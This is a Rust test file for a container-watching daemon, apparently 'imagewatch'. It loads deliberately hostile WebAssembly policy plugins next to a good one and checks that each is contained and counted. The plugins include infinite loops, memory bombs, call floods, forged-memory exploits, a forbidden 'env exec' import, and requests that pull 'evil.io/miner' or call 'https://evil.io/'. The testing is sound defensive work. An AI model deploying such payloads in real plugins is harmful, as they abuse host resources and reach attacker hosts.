//! Tests hostile policies next to a good one in the real program. Each one is contained, reported and counted, and the
//! good policy continues to update its container. The host's own tests cover each kind of hostile policy in detail.

use std::path::PathBuf;

use imagewatch_tests::http_client::build_client;
use imagewatch_tests::plugin_manifest::PluginManifest;
use imagewatch_tests::program::start_imagewatch;
use imagewatch_tests::wait::wait_for;
use tempfile::TempDir;

use crate::reload::{plugin_status, polls_of};
use crate::stage::{LONG_TIMEOUT, SHORT_TIMEOUT, Stage, watch_with};
use imagewatch_policy::inline::{Inline, MEMORY_EXPLOITS};

const NO_ENGINE: &str = "unix:///nonexistent/docker.sock";

/// Writes a manifest `name` for a hostile `policy` with the same grants as the good policy.
fn write(stage: &Stage, name: &str, policy: &Inline) -> PathBuf {
    let wasm = stage.folder.path().join(format!("{name}.wasm"));
    std::fs::write(&wasm, policy.build()).expect("the test's folder is writable");
    let manifest = PluginManifest { wasm, ..stage.manifest() };
    let mut manifest = manifest
        .config("host.allow_unhashed", "true")
        .config("host.fuel", "500000000")
        .config("host.max_host_calls", "20");
    // Only the default policy knows these keys.
    manifest.config.remove("interval");
    manifest.config.remove("unknown_origin");
    stage.write(&manifest, name)
}

fn refresh(order: &str) -> String {
    format!(r#"(drop (call $docker_refresh «{{"orders": [{order}]}}»))"#)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_good_policy_continues_next_to_hostile_ones() {
    let stage = Stage::new().await;
    stage.push("web", "v1").await;
    stage.push("other", "v1").await;
    stage.run("web").await;
    let other = stage.run("other").await;
    let outside = format!(
        r#"{{"order": "a", "target": "a", "reference": "{}", "recreate": true, "strategy": "remove", "containers": {{"name": "not-ours"}}}}"#,
        stage.image("other")
    );
    let miner =
        r#"{"order": "a", "target": "a", "reference": "evil.io/miner", "recreate": true, "strategy": "replace"}"#;
    let order_and_trap = format!(
        "{} unreachable",
        refresh(&format!(
            r#"{{"order": "a", "target": "a", "reference": "{}", "recreate": true, "strategy": "remove", "only_outdated": false}}"#,
            stage.image("other")
        ))
    );
    let faults = [
        ("endless", "(loop $l (br $l))", "fuel"),
        ("bomb", "(loop $l (drop (memory.grow (i32.const 64))) (br $l))", "memory"),
        (
            "flood",
            "(local.set $a «{}») (loop $l (drop (call $docker_containers (local.get $a))) (br $l))",
            "host_calls",
        ),
        ("panics", "(call $error_set «policy panicked: at the disco») unreachable", "panic"),
        ("invalid", "(call $output «[1»)", "invalid_output"),
        ("orders", &order_and_trap, "trap"),
    ];
    let denials = [
        ("outside", &refresh(&outside), "container"),
        ("miner", &refresh(miner), "image"),
        (
            "caller",
            &r#"(drop (call $http_send «{"requests": [{"method": "GET", "url": "https://evil.io/"}]}»))"#.to_owned(),
            "http",
        ),
    ];
    let mut manifests = vec![stage.write(&stage.manifest().config("images", &stage.image("web")), "good")];
    for (name, poll, _) in faults {
        manifests.push(write(&stage, name, &Inline { poll: poll.to_owned(), ..Inline::default() }));
    }
    for (name, poll, _) in &denials {
        manifests.push(write(&stage, name, &Inline::polling(poll)));
    }
    let foreign = Inline { fields: r#"(import "env" "exec" (func))"#.to_owned(), ..Inline::default() };
    manifests.push(write(&stage, "foreign", &foreign));
    let debug = [("IMAGEWATCH_LOG", "imagewatch=debug")];
    let daemon = watch_with(stage.scope.engine().host(), &manifests, &debug);
    daemon.wait_for_line("first seen").await;

    for version in ["v2", "v3"] {
        let digest = stage.push("web", version).await;
        stage.wait_until_on("web", &digest, LONG_TIMEOUT).await;
    }
    for (name, what) in faults.iter().map(|row| (row.0, "faults")).chain(denials.iter().map(|row| (row.0, "denied"))) {
        wait_for(&format!("{what} of {name}"), LONG_TIMEOUT, || async {
            let status = plugin_status(&daemon, name).await;
            if status[what].as_object().is_some_and(|counts| !counts.is_empty()) { Ok(()) } else { Err(status) }
        })
        .await;
    }
    let metrics = build_client().get(daemon.admin_url("/metrics").await).send().await.expect("the admin API answers");
    let metrics = metrics.text().await.expect("text");
    for (name, _, kind) in faults {
        let status = plugin_status(&daemon, name).await;
        assert!(status["faults"][kind].as_u64() > Some(0), "{name}: {status}");
        assert!(
            daemon.count(&format!("manifest=\"{name}\"")) + daemon.count(&format!("manifest={name}")) > 0,
            "{name}"
        );
        let counter = format!("imagewatch_plugin_faults_total{{manifest=\"{name}\",kind=\"{kind}\"}}");
        assert!(metrics.contains(&counter), "{counter} in {metrics}");
    }
    for (name, _, what) in &denials {
        let status = plugin_status(&daemon, name).await;
        assert!(status["denied"][what].as_u64() > Some(0), "{name}: {status}");
        let counter = format!("imagewatch_plugin_denied_total{{manifest=\"{name}\",what=\"{what}\"}}");
        assert!(metrics.contains(&counter), "{counter} in {metrics}");
    }
    assert!(metrics.contains("result=\"refused\"} 1"), "{metrics}");
    daemon.process.wait_for_line("imports `env exec`", SHORT_TIMEOUT).await;
    daemon.process.wait_for_line("refused to the policy", SHORT_TIMEOUT).await;
    assert_eq!(
        stage.container("other").await.expect("the container exists").id,
        other,
        "the container must not be touched"
    );
    let polls = polls_of(&daemon.stop().await, "good");
    let most = polls.windows(2).map(|pair| pair[1] - pair[0]).fold(0.0, f64::max);
    println!("{} polls of the good one, {most:.3} s apart at most", polls.len());
    assert!(most < 3.0, "polls with an interval of 200 ms were {most:.3} s apart");
}

/// These policies made an earlier program crash while it loaded them.
#[tokio::test(flavor = "multi_thread")]
async fn s1_s2_plugin_inspect_reports_forged_memory_with_its_exit_code() {
    let folder = TempDir::new().expect("the temp folder is writable");
    for (name, exploit) in MEMORY_EXPLOITS {
        let wasm = folder.path().join(format!("{name}.wasm"));
        std::fs::write(&wasm, Inline::describing(exploit).build()).expect("the test's folder is writable");
        let mut process = start_imagewatch(NO_ENGINE, ["plugin", "inspect", wasm.to_str().expect("text")], &[]);
        assert_eq!(process.wait_exit(LONG_TIMEOUT).await, Some(4), "{name}: {:#?}", process.lines());
        process.wait_for_line("not in one block of its memory", SHORT_TIMEOUT).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn s1_s2_the_program_survives_forged_memory_at_load_and_poll() {
    let folder = TempDir::new().expect("the temp folder is writable");
    let write = |name: String, policy: &Inline| {
        let wasm = folder.path().join(format!("{name}.wasm"));
        std::fs::write(&wasm, policy.build()).expect("the test's folder is writable");
        let manifest = PluginManifest { wasm, ..PluginManifest::new() };
        manifest.config("host.allow_unhashed", "true").write(folder.path(), &name)
    };
    let mut manifests = vec![write("good".to_owned(), &Inline::default())];
    for (name, exploit) in MEMORY_EXPLOITS {
        manifests.push(write(format!("load-{name}"), &Inline::describing(exploit)));
        manifests.push(write(format!("poll-{name}"), &Inline::exploiting(exploit)));
    }
    let daemon = watch_with(NO_ENGINE, &manifests, &[]);
    for (name, _) in MEMORY_EXPLOITS {
        daemon.wait_for_line(&format!("load-{name}.wasm")).await;
        wait_for(&format!("two faults of poll-{name}"), LONG_TIMEOUT, || async {
            let status = plugin_status(&daemon, &format!("poll-{name}")).await;
            if status["faults"]["trap"].as_u64() >= Some(2) { Ok(()) } else { Err(status) }
        })
        .await;
    }
    // A reload loads policies too.
    std::fs::write(folder.path().join("good.wasm"), Inline::describing(MEMORY_EXPLOITS[0].1).build())
        .expect("the test's folder is writable");
    daemon.wait_for_line("good.wasm").await;
    let lines = daemon.stop().await;
    assert!(!lines.is_empty(), "the program did not crash before the stop");
}
